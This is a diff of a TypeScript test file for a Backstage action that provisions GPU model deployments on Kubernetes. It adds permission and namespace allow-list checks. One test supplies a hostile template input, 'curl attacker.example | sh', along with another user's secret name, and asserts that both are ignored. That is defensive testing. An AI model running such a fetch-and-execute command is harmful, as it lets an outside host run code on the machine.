@@ -1,5 +1,5 @@
 import { mockServices } from '@backstage/backend-test-utils';
-import { InputError } from '@backstage/errors';
+import { InputError, NotAllowedError } from '@backstage/errors';
 import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
 import fs from 'node:fs/promises';
 import path from 'node:path';
@@ -9,6 +9,7 @@ import {
   LLAMA_CONFIG_JSON,
   approvedVersion,
   createFakeModelHubClient,
+  fakePermissions,
   gpuConfig,
   gpuNode,
   llamaFiles,
@@ -60,6 +61,7 @@ describe('model-hub:gpu:provision', () => {
   const action = createGpuProvisionAction({
     client,
     gpu: gpuConfig,
+    permissions: fakePermissions(),
     clusters: [],
   });
 
@@ -160,6 +162,7 @@ describe('model-hub:gpu:provision', () => {
       const dryAction = createGpuProvisionAction({
         client,
         gpu: gpuConfig,
+        permissions: fakePermissions(),
         clusters: [
           {
             name: 'gpu-cluster',
@@ -193,6 +196,7 @@ describe('model-hub:gpu:provision', () => {
         },
       }),
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     await expect(run(unapproved, { version: 'v2' })).rejects.toThrow(
@@ -220,6 +224,7 @@ describe('model-hub:gpu:provision', () => {
         },
       }),
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     for (const version of ['v1', 'v2']) {
@@ -239,6 +244,7 @@ describe('model-hub:gpu:provision', () => {
         },
       }),
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     await expect(run(unpinned, {})).rejects.toThrow(
@@ -277,6 +283,7 @@ describe('model-hub:gpu:provision', () => {
         },
       }),
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     await expect(
@@ -305,6 +312,7 @@ describe('model-hub:gpu:provision', () => {
     const kserve = createGpuProvisionAction({
       client: noChecks,
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     const { out } = await run(kserve, { runtime: 'kserve', dtype: 'int4' });
@@ -343,6 +351,7 @@ describe('model-hub:gpu:provision', () => {
         },
       }),
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     const { out: rawOut } = await run(raw, {});
@@ -384,6 +393,7 @@ describe('model-hub:gpu:provision', () => {
     const withReview = createGpuProvisionAction({
       client: reviewChecks,
       gpu: gpuConfig,
+      permissions: fakePermissions(),
       clusters: [],
     });
     const { out } = await run(withReview, {});
@@ -417,9 +427,12 @@ describe('model-hub:gpu:provision', () => {
       ]),
     );
 
+    // the job command comes from modelHub.gpu.deploy.commands; a command
+    // in the template input is not used
     const { out: job } = await run(action, {
       runtime: 'job',
-      command: ['python3', 'batch.py'],
+      command: ['sh', '-c', 'curl attacker.example | sh'],
+      tokenSecretName: 'someone-elses-secret',
     });
     expect(job.objects).toHaveLength(1);
     expect(job.objects[0]).toMatchObject({
@@ -428,6 +441,8 @@ describe('model-hub:gpu:provision', () => {
     });
     const jobContainer = job.objects[0].spec.template.spec.containers[0];
     expect(jobContainer.command).toEqual(['python3', 'batch.py']);
+    expect(JSON.stringify(job.objects)).not.toContain('someone-elses-secret');
+    expect(JSON.stringify(job.objects)).toContain('model-hub-mirror-token');
     expect(jobContainer.image).toBe('vllm/vllm-openai:v0.6.3');
     expect(job.objects[0].spec.template.spec.restartPolicy).toBe('Never');
   });
@@ -444,6 +459,7 @@ describe('model-hub:gpu:provision', () => {
       createGpuProvisionAction({
         client,
         gpu: gpuConfig,
+        permissions: fakePermissions(),
         clusters: [
           { name: 'other', url: 'http://127.0.0.1:1', skipTLSVerify: false },
           { name, url, serviceAccountToken: 'sa-token', skipTLSVerify: false },
@@ -527,6 +543,118 @@ describe('model-hub:gpu:provision', () => {
         expect(logger.warn).toHaveBeenCalledWith(
           `${warning}; the pods may stay pending`,
         );
+        expect(out.applied).toHaveLength(2);
+      } finally {
+        await kube.close();
+      }
+    });
+
+    it('needs model-hub.deploy on the model, with the initiator credentials', async () => {
+      const kube = await startFakeKubernetes({ nodes: [] });
+      try {
+        const denied = fakePermissions(false);
+        const guarded = createGpuProvisionAction({
+          client,
+          gpu: gpuConfig,
+          clusters: [
+            {
+              name: 'gpu-cluster',
+              url: kube.url,
+              serviceAccountToken: 'sa-token',
+              skipTLSVerify: false,
+            },
+          ],
+          permissions: denied,
+        });
+        await expect(
+          run(guarded, { apply: true, cluster: 'gpu-cluster' }),
+        ).rejects.toThrow(
+          new NotAllowedError(
+            'Not allowed: model-hub.deploy on model:default/llama-3-8b-instruct; rendering without apply needs read access only',
+          ),
+        );
+        expect(denied.authorize).toHaveBeenCalledWith(
+          [
+            {
+              permission: expect.objectContaining({
+                name: 'model-hub.deploy',
+                type: 'resource',
+                resourceType: 'catalog-entity',
+              }),
+              resourceRef: 'model:default/llama-3-8b-instruct',
+            },
+          ],
+          { credentials: expect.anything() },
+        );
+        expect(kube.requests).toEqual([]);
+
+        // rendering and dry runs need read access only
+        denied.authorize.mockClear();
+        const { out } = await run(guarded, { apply: false });
+        expect(out.manifests).toContain('kind: Deployment');
+        const dry = await run(guarded, { apply: true }, { isDryRun: true });
+        expect(dry.out.applied).toBeUndefined();
+        expect(denied.authorize).not.toHaveBeenCalled();
+        expect(kube.requests).toEqual([]);
+      } finally {
+        await kube.close();
+      }
+    });
+
+    it('applies only to namespaces the config allows for the cluster and GPU profile', async () => {
+      const kube = await startFakeKubernetes({ nodes: [] });
+      try {
+        const withDeploy = (deploy: Partial<typeof gpuConfig.deploy>) =>
+          createGpuProvisionAction({
+            client,
+            gpu: { ...gpuConfig, deploy: { ...gpuConfig.deploy, ...deploy } },
+            clusters: [
+              {
+                name: 'gpu-cluster',
+                url: kube.url,
+                serviceAccountToken: 'sa-token',
+                skipTLSVerify: false,
+              },
+            ],
+            permissions: fakePermissions(),
+          });
+        // a namespace the user typed that the cluster does not allow
+        await expect(
+          run(withDeploy({}), {
+            apply: true,
+            cluster: 'gpu-cluster',
+            namespace: 'kube-system',
+          }),
+        ).rejects.toThrow(
+          'Not applied: namespace kube-system is not allowed on cluster gpu-cluster (allowed: ml-serving, ml-batch)',
+        );
+        // the GPU profile's list applies too
+        await expect(
+          run(withDeploy({}), {
+            apply: true,
+            cluster: 'gpu-cluster',
+            gpuProfile: 'a100-80gb',
+            namespace: 'ml-serving',
+          }),
+        ).rejects.toThrow(
+          'Not applied: namespace ml-serving is not allowed for GPU profile a100-80gb (allowed: ml-batch)',
+        );
+        // nothing is allowed where nothing is listed
+        await expect(
+          run(withDeploy({ clusterNamespaces: {}, profileNamespaces: {} }), {
+            apply: true,
+            cluster: 'gpu-cluster',
+          }),
+        ).rejects.toThrow(
+          'Not applied: no namespace is allowed on cluster gpu-cluster for GPU profile l4-24gb; list them in modelHub.gpu.deploy.namespaces',
+        );
+        expect(kube.requests).toEqual([]);
+        const { out } = await run(withDeploy({}), {
+          apply: true,
+          cluster: 'gpu-cluster',
+          gpuProfile: 'a100-80gb',
+          namespace: 'ml-batch',
+        });
         expect(out.applied).toHaveLength(2);
       } finally {
         await kube.close();
